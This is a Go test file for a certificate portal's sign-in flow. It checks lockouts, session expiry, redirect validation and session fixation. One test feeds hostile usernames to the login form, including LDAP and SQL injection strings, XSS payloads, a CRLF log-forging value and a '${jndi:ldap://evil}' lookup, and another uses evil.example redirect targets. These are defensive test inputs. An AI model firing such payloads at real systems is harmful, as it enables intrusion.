package web_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"certportal/internal/audit"
	"certportal/internal/signin"
	"certportal/internal/test/testkit"
	"certportal/web"
)

const sessionCookie = "__Host-certportal"

func TestSignInAndOut(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	b := p.browser(iPhone)
	if got := b.get("/"); got.status != 303 || got.location() != "/login" {
		t.Errorf("home without session: got %d to %q", got.status, got.location())
	}
	form := b.get("/login")
	if form.status != 200 || len(form.header.Values("Set-Cookie")) != 0 {
		t.Errorf("sign-in page: got %d with cookies %q", form.status, form.header.Values("Set-Cookie"))
	}
	got := b.post("/login", "username", " EXAMPLE\\Anna ", "password", password)
	if got.status != 303 || got.location() != "/new" {
		t.Fatalf("signing in: got %d to %q", got.status, got.location())
	}
	if got := b.get("/"); got.status != 200 || !strings.Contains(got.text(), "Anna Muster") {
		t.Errorf("home: got %d: %s", got.status, got.text())
	}
	if got := b.get("/login?next=%2Fnew"); got.status != 303 || got.location() != "/new" {
		t.Errorf("sign-in page when signed in: got %d to %q", got.status, got.location())
	}
	if got := b.post("/logout"); got.status != 303 || got.location() != "/login" {
		t.Errorf("signing out: got %d to %q", got.status, got.location())
	}
	if got := b.get("/"); got.status != 303 {
		t.Errorf("home after signing out: got %d", got.status)
	}
	if p.entries(audit.SignedIn) != 1 || p.entries(audit.SignedOut) != 1 {
		t.Errorf("ledger: got %d in, %d out", p.entries(audit.SignedIn), p.entries(audit.SignedOut))
	}
}

func TestSignInRefused(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name               string
		username, password string
		status             int
		recorded           int // refused tries in the audit log
	}{
		{"nothing", "", "", 422, 0},
		{"no name", " ", password, 422, 0},
		{"no password", "anna", "", 422, 0},
		{"wrong password", "anna", "wrong", 401, 1},
		{"unknown name", "nobody", password, 401, 1},
		{"blank password", "anna", "   ", 401, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := newPortal(t)
			b := p.browser(iPhone)
			got := b.post("/login", "username", tt.username, "password", tt.password, "next", "/new")
			if got.status != tt.status {
				t.Errorf("got %d, want %d", got.status, tt.status)
			}
			if n := p.entries(audit.SignInRefused); n != tt.recorded {
				t.Errorf("got %d refused tries recorded, want %d", n, tt.recorded)
			}
			if b.cookie(sessionCookie) != "" {
				t.Error("a session was opened")
			}
			if v := got.value("username"); v != strings.TrimSpace(tt.username) {
				t.Errorf("username: got %q back, want %q", v, tt.username)
			}
			if v := got.value("password"); v != "" {
				t.Error("the password came back")
			}
			if v := got.value("next"); v != "/new" {
				t.Errorf("next: got %q, want /new", v)
			}
		})
	}
}

// TestSignInPauses counts tries per account, for every form of its name, and shows
// until when sign-ins are paused.
func TestSignInPauses(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	b := p.browser(iPhone)
	for i, spelling := range []string{"anna", " ANNA", `EXAMPLE\anna`} {
		got := b.post("/login", "username", spelling, "password", "wrong")
		if want := []string{"2 tries left", "1 try left", "no tries left"}[i]; got.status != 401 || !strings.Contains(got.text(), want) {
			t.Errorf("try %d: got %d, want 401 and %q: %s", i+1, got.status, want, got.text())
		}
	}
	got := b.post("/login", "username", "anna", "password", password)
	if got.status != 429 || got.header.Get("Retry-After") == "" {
		t.Errorf("got %d, Retry-After %q, want 429", got.status, got.header.Get("Retry-After"))
	}
	p.clock.Advance(signin.DefaultWindow + time.Second)
	if got := b.post("/login", "username", "anna", "password", password); got.status != 303 {
		t.Errorf("after the pause: got %d, want 303", got.status)
	}
}

func TestSignInDisabled(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	if err := p.people.SetDisabled(t.Context(), "anna", true, audit.Entry{At: testkit.Noon}); err != nil {
		t.Fatal(err)
	}
	b := p.browser(iPhone)
	if got := b.post("/login", "username", "anna", "password", "wrong"); got.status != 401 {
		t.Errorf("wrong password: got %d, want 401 as for everybody", got.status)
	}
	if got := b.post("/login", "username", "anna", "password", password); got.status != 403 {
		t.Errorf("right password: got %d, want 403", got.status)
	}
}

func TestNext(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	tests := []struct{ name, next, want string }{
		{"device", "/devices/abc?p=ios", "/devices/abc?p=ios"},
		{"other site", "https://evil.example/", "/"},
		{"two slashes", "//evil.example/", "/"},
		{"backslash", `/\evil.example`, "/"},
		{"sign-in page", "/login?next=/login", "/"},
		{"none", "", "/"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := p.browser(linux)
			got := b.post("/login", "username", "anna", "password", password, "next", tt.next)
			if got.location() != tt.want {
				t.Errorf("got %q, want %q", got.location(), tt.want)
			}
		})
	}
}

func TestSessionRunsOut(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		login string
		step  time.Duration // between two pages
		steps int           // pages until the session must be over
		why   string
	}{
		{"idle", "anna", 16 * time.Minute, 1, "nothing happened for 15 minutes"},
		{"absolute", "anna", 10 * time.Minute, 48, "Your sign-in has ended."},
		{"absolute for staff", "hedi", 10 * time.Minute, 24, "Your sign-in has ended."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := newPortal(t)
			b := p.signedIn(tt.login, iPhone)
			for i := 1; i < tt.steps; i++ {
				p.clock.Advance(tt.step)
				if got := b.get("/"); got.status != 200 {
					t.Fatalf("page %d: got %d, want the session to last", i, got.status)
				}
			}
			p.clock.Advance(tt.step)
			got := b.get("/new?p=ios&x=secret")
			if got.status != 303 || got.location() != "/login?next=%2Fnew%3Fp%3Dios" {
				t.Fatalf("got %d to %q, want the way back to the same page", got.status, got.location())
			}
			if page := b.get(got.location()); !strings.Contains(page.text(), tt.why) {
				t.Errorf("sign-in page does not say why: %s", page.text())
			}
		})
	}
}

// TestA9_Fixation holds that a cookie from before the sign-in is worth nothing
// after it, nor one from before the sign-out.
func TestA9_Fixation(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	planted := strings.Repeat("A", 43)
	victim := p.browser(iPhone)
	got := victim.do(http.MethodPost, "/login", strings.NewReader("username=anna&password="+url.QueryEscape(password)),
		"Content-Type", "application/x-www-form-urlencoded", "Cookie", sessionCookie+"="+planted)
	if got.status != 303 {
		t.Fatalf("signing in: got %d", got.status)
	}
	if victim.cookie(sessionCookie) == planted {
		t.Error("the planted cookie became the session")
	}
	home := func(cookie string) int {
		return p.browser(iPhone).get("/", "Cookie", sessionCookie+"="+cookie).status
	}
	if got := home(planted); got != 303 {
		t.Errorf("planted cookie: got %d, want 303", got)
	}
	first := victim.cookie(sessionCookie)
	if got := victim.post("/login", "username", "anna", "password", password); got.status != 303 {
		t.Fatalf("signing in again: got %d", got.status)
	}
	if got := home(first); got != 303 {
		t.Errorf("cookie from before the second sign-in: got %d, want 303", got)
	}
	second := victim.cookie(sessionCookie)
	if got := home(second); got != 200 {
		t.Errorf("cookie of the session: got %d, want 200", got)
	}
	victim.post("/logout")
	if got := home(second); got != 303 {
		t.Errorf("cookie after signing out: got %d, want 303", got)
	}
}

// TestEndSessions ends them in the records, as the command line does: the next
// request leads to the sign-in page.
func TestEndSessions(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	phone, laptop, other := p.signedIn("anna", iPhone), p.signedIn("anna", linux), p.signedIn("ben", linux)
	account, err := p.db.AccountByLogin(t.Context(), "anna")
	if err != nil {
		t.Fatal(err)
	}
	if n, err := p.db.EndSessions(t.Context(), string(account.ID)); n != 2 || err != nil {
		t.Errorf("got %d, %v, want 2", n, err)
	}
	if a, b, c := phone.get("/").status, laptop.get("/").status, other.get("/").status; a != 303 || b != 303 || c != 200 {
		t.Errorf("got %d, %d and %d for somebody else, want 303, 303, 200", a, b, c)
	}
}

// TestA7_HostileNames holds that no spelling of a name gets in, breaks the page,
// or reaches the log.
func TestA7_HostileNames(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	names := []string{
		"*", "*)(objectClass=*", "a)(|(cn=*", "anna\x00", `\2a`, "+ADw-script+AD4-", "anna' OR '1'='1",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "anna\r\nlevel=ERROR msg=forged",
		"\u202eanna", "anna\u200b", "ａｎｎａ", strings.Repeat("a", 5000), "${jndi:ldap://evil}", "{{.}}",
	}
	for _, name := range names {
		got := p.browser(iPhone).post("/login", "username", name, "password", password)
		if got.status != 401 {
			t.Errorf("%.40q: got %d, want 401", name, got.status)
		}
		if got.id("error") != nil || strings.Contains(string(got.body), "<script>alert") ||
			strings.Contains(string(got.body), "<img") {
			t.Errorf("%.40q: the page carries it as markup", name)
		}
	}
	got := p.browser(iPhone).do(http.MethodPost, "/login", strings.NewReader("username=%c0%af&password=x"),
		"Content-Type", "application/x-www-form-urlencoded")
	if got.status != 400 {
		t.Errorf("overlong UTF-8: got %d, want 400", got.status)
	}
	if log := p.log.String(); strings.Contains(log, "forged") || strings.Contains(log, "jndi") {
		t.Error("a name that was typed stands in the log")
	}
}

// TestA7_PasswordTails sends passwords whose & was not escaped: no piece of one
// may stand in the log, or in the audit log, which forgets nothing.
func TestA7_PasswordTails(t *testing.T) {
	t.Parallel()
	p := newPortal(t)
	b := p.signedIn("anna", iPhone)
	const kind = "application/x-www-form-urlencoded"
	for _, body := range []string{
		"username=anna&password=abc&MySecretTail", "username=anna&password=abc&secret_tail=x",
		"username=anna&password=abc&MySecretTail=%zz",
	} {
		for who, agent := range map[string]*browser{"anna": b, "stranger": p.browser(linux)} {
			if got := agent.do(http.MethodPost, "/login", strings.NewReader(body), "Content-Type", kind); got.status != 400 {
				t.Errorf("%s, %s: got %d, want 400", who, body, got.status)
			}
		}
	}
	entries, err := p.db.Entries(t.Context(), 0, 1000)
	if err != nil {
		t.Fatal(err)
	}
	for place, content := range map[string]string{"log": p.log.String(), "ledger": fmt.Sprint(entries)} {
		if strings.Contains(content, "SecretTail") || strings.Contains(content, "secret_tail") {
			t.Errorf("the end of a password stands in the %s", place)
		}
		if !strings.Contains(content, "a field that no form has") {
			t.Errorf("the %s does not tell of the rejection", place)
		}
	}
}

func TestSignInsPerAddress(t *testing.T) {
	t.Parallel()
	p := newPortal(t, func(c *web.Config) { c.Limits.SignIns = 3 })
	b := p.browser(iPhone)
	for range 3 {
		if got := b.post("/login", "username", "", "password", ""); got.status != 422 {
			t.Fatalf("got %d, want 422", got.status)
		}
	}
	// A header that anyone may write does not make another address.
	got := b.do(http.MethodPost, "/login", strings.NewReader("username=&password="),
		"Content-Type", "application/x-www-form-urlencoded", "X-Forwarded-For", "192.0.2.7")
	if got.status != 429 || got.header.Get("Retry-After") == "" || got.id("main") == nil && len(got.body) == 0 {
		t.Errorf("got %d, Retry-After %q, want a 429 page", got.status, got.header.Get("Retry-After"))
	}
	if got := b.get("/login"); got.status != 200 {
		t.Errorf("the page itself: got %d, want 200", got.status)
	}
}
